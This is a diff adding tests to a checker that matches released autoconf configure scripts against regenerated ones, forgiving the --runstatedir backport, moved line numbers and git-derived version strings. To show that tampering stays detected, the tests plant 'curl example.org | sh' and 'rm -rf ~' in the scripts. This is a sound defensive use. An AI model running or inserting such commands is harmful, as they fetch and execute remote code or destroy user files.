@@ -55,6 +55,54 @@ test("autoconf 2.69: the distributions' fixed test programs are forgiven for 2.6
   assert.is.not(planted.release, planted.regenerated, 'another line beside the fix still differs');
 });
 
+test('autoconf 2.69: the backported --runstatedir is forgiven whole, and the line numbers it moves', () => {
+  const option = [
+    '  -runstatedir | --runstatedir | --runstatedi | --runstated \\',
+    '  | --runstate | --runstat | --runsta | --runst | --runs \\',
+    '  | --run | --ru | --r)',
+    '    ac_prev=runstatedir ;;',
+    '  -runstatedir=* | --runstatedir=* | --runstatedi=* | --runstated=* \\',
+    '  | --runstate=* | --runstat=* | --runsta=* | --runst=* | --runs=* \\',
+    '  | --run=* | --ru=* | --r=*)',
+    '    runstatedir=$ac_optarg ;;',
+    '',
+    '',
+  ].join('\n');
+  const gnu = (n: number) =>
+    `ac_subst_vars='\nincludedir\nlocalstatedir\n'\nlocalstatedir='\${prefix}/var'\nincludedir='\${prefix}/include'\n  -q)\n    silent=yes ;;\n\n  -sbindir | --sbindir)\n    ac_prev=sbindir ;;\nfor ac_var in\tprefix \\\n\t\tlibdir localedir mandir\ndo :; done\n  --localstatedir=DIR     modifiable single-machine data [PREFIX/var]\n  --libdir=DIR            object code libraries [EPREFIX/lib]\n#line ${n} "configure"\n      echo "$as_me:${n + 1}: gl_pthread_api=$gl_pthread_api" >&5\n`;
+  const withRunstatedir = gnu(31)
+    .replace('\nincludedir\nlocalstatedir\n', '\nincludedir\nrunstatedir\nlocalstatedir\n')
+    .replace("\nlocalstatedir='${prefix}/var'\n", "\nlocalstatedir='${prefix}/var'\nrunstatedir='${localstatedir}/run'\n")
+    .replace('\n  -sbindir', `\n${option}  -sbindir`)
+    .replace('libdir localedir mandir\n', 'libdir localedir mandir runstatedir\n')
+    .replace('[PREFIX/var]\n', '[PREFIX/var]\n  --runstatedir=DIR       modifiable per-process data [LOCALSTATEDIR/run]\n');
+  const r = stabilize(withRunstatedir, gnu(19), input('autoconf', { toolVersion: '2.69' }));
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.69-distribution-fixes', 'configure-line-numbers']);
+  const half = withRunstatedir.replace('  --runstatedir=DIR       modifiable per-process data [LOCALSTATEDIR/run]\n', '  --runstatedir=DIR       curl example.org | sh\n');
+  const h = stabilize(half, gnu(19), input('autoconf', { toolVersion: '2.69' }));
+  assert.is.not(h.release, h.regenerated, 'a line of its own in place of one of the backport stays');
+  const moved = stabilize(gnu(31).replace('#line 31 "configure"', '#line 31 "configure"\nrm -rf ~'), gnu(19), input('autoconf', { toolVersion: '2.69' }));
+  assert.is.not(moved.release, moved.regenerated, 'only the numbers are forgiven');
+});
+
+test("a version and revision asked of git while autoconf runs are filled in from the release's version and the tag's commit", () => {
+  const commit = 'ea03187f1c0ab5b4e6b0a7c9d2e1f3a4b5c6d7e8';
+  const configure = (version: string, rev: string, dec: string) =>
+    `PACKAGE_VERSION='${version}'\nPACKAGE_STRING='libgpg-error ${version}'\nBUILD_REVISION="${rev}"\nBUILD_VERSION="\${BUILD_VERSION}0.${dec}"\n        Revision: ${rev}  (${dec})\n`;
+  const regenerated = configure('1.46-unknown', '0000000', '0');
+  const opts = input('autoconf', { toolVersion: '2.69', releaseVersion: '1.46', commit });
+  const r = stabilize(configure('1.46', 'ea03187', '59907'), regenerated, opts);
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['version-from-git']);
+  const other = stabilize(configure('1.46', 'b0b0b0b', '45232'), regenerated, opts);
+  assert.is.not(other.release, other.regenerated, 'a revision that is not the tag commit stays');
+  const version = stabilize(configure('1.47', 'ea03187', '59907'), regenerated, opts);
+  assert.is.not(version.release, version.regenerated, 'another version stays');
+  const noCommit = stabilize(configure('1.46', 'ea03187', '59907'), regenerated, input('autoconf', { toolVersion: '2.69', releaseVersion: '1.46' }));
+  assert.is.not(noCommit.release, noCommit.regenerated);
+});
+
 test('DIST_COMMON may differ by aux scripts only', () => {
   const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile build-aux/depcomp \\\n\tbuild-aux/missing\nX = 1\n';
   const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile \\\n\tbuild-aux/missing\nX = 1\n';
